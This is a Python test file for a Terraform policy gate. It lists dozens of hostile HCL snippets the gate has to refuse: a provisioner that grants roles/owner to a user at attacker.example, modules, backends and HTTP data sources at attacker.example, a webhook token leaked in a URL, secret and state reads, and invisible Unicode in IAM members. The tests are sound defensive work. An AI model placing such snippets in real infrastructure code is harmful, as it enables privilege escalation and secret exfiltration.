# ruff: noqa: E501 - one attack a line
"""Attacks on narrow rights that are no resource of an allowed type: what acts before a plan, what names other files."""

import pytest

from shared.policy import static_gate
from shared.policy.plan_types import ALLOWED_TYPES
from shared.terraform.findings import accepted
from tests.attacks.generated import Case, judged
from tests.policy.plan_room import files_of

ON = '  bucket = google_storage_bucket.files.name\n  role   = "roles/storage.objectCreator"\n'
GRANT = 'resource "google_storage_bucket_iam_member" "x" {\n' + ON
CALL = 'resource "google_cloud_scheduler_job" "x" {\n  name = "x${var.name_suffix}"\n  schedule = "0 3 * * *"\n  http_target {\n    uri = %s\n  }\n}\n'
WRITTEN = {
    "member from a file": GRANT + '  member = file("who.txt")\n}\n',
    "member from a template": GRANT + '  member = templatefile("who.tpl", {})\n}\n',
    "member from a file of base64": GRANT + '  member = filebase64("who")\n}\n',
    "whether there is a file decides": GRANT
    + '  member = fileexists("/etc/passwd") ? "allUsers" : google_service_account.mine.member\n}\n',
    "a list of files as members": 'resource "google_storage_bucket_iam_member" "x" {\n  for_each = fileset("/", "*")\n'
    + ON
    + "  member = each.value\n}\n",
    "a provisioner beside a grant": GRANT
    + '  member = google_service_account.mine.member\n  provisioner "local-exec" {\n    command = "gcloud projects add-iam-policy-binding demo --member=user:eve@attacker.example --role=roles/owner"\n  }\n}\n',
    "a provisioner at the end of a transfer": 'resource "google_storage_transfer_job" "x" {\n  description = "x"\n  provisioner "remote-exec" {\n    when = destroy\n    inline = ["id"]\n  }\n}\n',
    "a connection": GRANT
    + '  member = google_service_account.mine.member\n  connection {\n    host = "attacker.example"\n  }\n}\n',
    "import of a grant": 'import {\n  to = google_storage_bucket_iam_member.x\n  id = "b/other-zzzzz roles/storage.admin allUsers"\n}\n'
    + GRANT
    + "  member = google_service_account.mine.member\n}\n",
    "import of each": 'import {\n  for_each = toset(["a"])\n  to = google_storage_bucket.x[each.key]\n  id = each.key\n}\n',
    "moved from another grant": "moved {\n  from = google_storage_bucket_iam_member.y\n  to   = google_storage_bucket_iam_member.x\n}\n"
    + GRANT
    + "  member = google_service_account.mine.member\n}\n",
    "moved out of a module": "moved {\n  from = module.a.google_storage_bucket.y\n  to   = google_storage_bucket.x\n}\n",
    "removed and left standing": "removed {\n  from = google_compute_firewall.backend_allow_http\n  lifecycle {\n    destroy = false\n  }\n}\n",
    "removed and destroyed": "removed {\n  from = google_compute_firewall.kept_in\n  lifecycle {\n    destroy = true\n  }\n}\n",
    "removed with a provisioner": 'removed {\n  from = google_storage_bucket.x\n  provisioner "local-exec" {\n    when = destroy\n    command = "id"\n  }\n}\n',
    "a provider that acts as another": 'provider "google" {\n  alias = "other"\n  impersonate_service_account = "infraai-tf-apply@demo-project.iam.gserviceaccount.com"\n}\n',
    "a provider with a token": 'provider "google" {\n  alias = "other"\n  access_token = "x"\n}\n',
    "a provider with another address": 'provider "google" {\n  alias = "other"\n  storage_custom_endpoint = "https://attacker.example/"\n}\n',
    "a module from elsewhere": 'module "x" {\n  source = "git::https://attacker.example/m.git"\n}\n',
    "a module of the registry": 'module "x" {\n  source  = "terraform-google-modules/iam/google//modules/projects_iam"\n  version = "1.0.0"\n}\n',
    "a data source from outside": 'data "http" "x" {\n  url = "https://attacker.example/${var.project_id}"\n}\n',
    "a data source that runs": 'data "external" "x" {\n  program = ["sh", "-c", "id"]\n}\n',
    "a secret that is read": 'data "google_secret_manager_secret_version" "x" {\n  secret = "keys-zzzzz"\n}\n',
    "an object that is read": 'data "google_storage_bucket_object_content" "x" {\n  bucket = "state"\n  name = "default.tfstate"\n}\n',
    "a token of the platform": 'data "google_service_account_access_token" "x" {\n  target_service_account = "infraai@x"\n  scopes = ["cloud-platform"]\n}\n',
    "a state from elsewhere": 'data "terraform_remote_state" "x" {\n  backend = "gcs"\n  config = { bucket = "state" }\n}\n',
    "client's own config": 'data "google_client_config" "x" {}\noutput "t" {\n  value = nonsensitive(data.google_client_config.x.access_token)\n}\n',
    "a backend": 'terraform {\n  backend "http" {\n    address = "https://attacker.example"\n  }\n}\n',
    "a cloud": 'terraform {\n  cloud {\n    organization = "attacker"\n  }\n}\n',
    "the token in a call": CALL % '"https://hooks.example.com/${var.ops_webhook_token}"',
    "the token in a description": 'resource "google_storage_transfer_job" "x" {\n  description = base64encode(var.ops_webhook_token)\n}\n',
    "the token by pieces": 'locals {\n  t = [for c in split("", var.ops_webhook_token) : c]\n}\n',
    "a right to left mark in a member": GRANT
    + '  member = "serviceAccount:loader\u202e@partner-prj.iam.gserviceaccount.com"\n}\n',
    "no width in a member": GRANT + '  member = "serviceAccount:load\u200ber@partner-prj.iam.gserviceaccount.com"\n}\n',
    "no width as an escape": GRANT
    + '  member = "serviceAccount:load\\u200Ber@partner-prj.iam.gserviceaccount.com"\n}\n',
    "a tag letter in a role": GRANT.replace("objectCreator", "objectCreator\U000e0041")
    + "  member = google_service_account.mine.member\n}\n",
    "a check that reads": 'check "x" {\n  data "http" "y" {\n    url = "https://attacker.example"\n  }\n  assert {\n    condition = true\n    error_message = "x"\n  }\n}\n',
    "an error message that tells": GRANT
    + "  member = google_service_account.mine.member\n  lifecycle {\n    postcondition {\n      condition     = false\n      error_message = random_password.db.result\n    }\n  }\n}\n",
    "an ephemeral secret": 'ephemeral "google_secret_manager_secret_version" "x" {\n  secret = "keys-zzzzz"\n}\n',
    "an action": 'action "google_x" "y" {\n  config {}\n}\n',
    "a null resource": 'resource "null_resource" "x" {\n  provisioner "local-exec" {\n    command = "id"\n  }\n}\n',
    "terraform data": 'resource "terraform_data" "x" {\n  input = 1\n  provisioner "local-exec" {\n    command = "id"\n  }\n}\n',
    "a local file": 'resource "local_file" "x" {\n  filename = "/tmp/x"\n  content = "x"\n}\n',
}
NOT_ALLOWED = [
    "google_service_account_key",
    "google_project_iam_policy",
    "google_project_iam_binding",
    "google_project_iam_custom_role",
    "google_storage_bucket_iam_binding",
    "google_storage_bucket_acl",
    "google_storage_transfer_agent_pool",
    "google_compute_network_firewall_policy_rule",
]

FILES = {
    "an override file": ("override.tf", GRANT + '  member = "allUsers"\n}\n'),
    "an override by its end": ("main_override.tf", GRANT + '  member = "allUsers"\n}\n'),
    "an override in JSON": (
        "x_override.tf.json",
        '{"resource":{"google_storage_bucket_iam_member":{"x":{"member":"allUsers"}}}}',
    ),
    "a test file": ("x.tftest.hcl", 'run "x" {\n  command = apply\n}\n'),
    "a lock file": (".terraform.lock.hcl", 'provider "evil" {}\n'),
    "terraform's own settings": (".terraformrc", "provider_installation {}\n"),
    "a grant in JSON with a provisioner": (
        "x.tf.json",
        '{"resource":{"google_storage_bucket_iam_member":{"x":{"bucket":"b","role":"r","member":"m","provisioner":[{"local-exec":{"command":"id"}}]}}}}',
    ),
}


@pytest.mark.parametrize("what", WRITTEN)
def test_what_acts_beside_a_grant_is_refused_before_the_plan(what):
    assert not accepted(static_gate.inspect({**files_of("backend_api"), "more.tf": WRITTEN[what]}))


@pytest.mark.parametrize("what", FILES)
def test_a_file_that_terraform_reads_by_its_name_is_refused(what):
    name, text = FILES[what]
    assert not accepted(static_gate.inspect({**files_of("backend_api"), name: text}))


@pytest.mark.parametrize("type_", NOT_ALLOWED)
def test_what_grants_or_sends_in_another_way_is_no_allowed_type(type_):
    assert type_ not in ALLOWED_TYPES


@pytest.mark.parametrize(
    ("path", "whose"),
    [
        ("topic", "projects/evil/topics/t"),
        ("topic", "//pubsub.googleapis.com/projects/evil/topics/t"),
        ("bucket", "evil"),
    ],
)
def test_a_bucket_tells_nobody_elsewhere_of_its_objects(path, whose):
    assert judged(Case("google_storage_notification", path, "another's", whose, f'"{whose}"'))
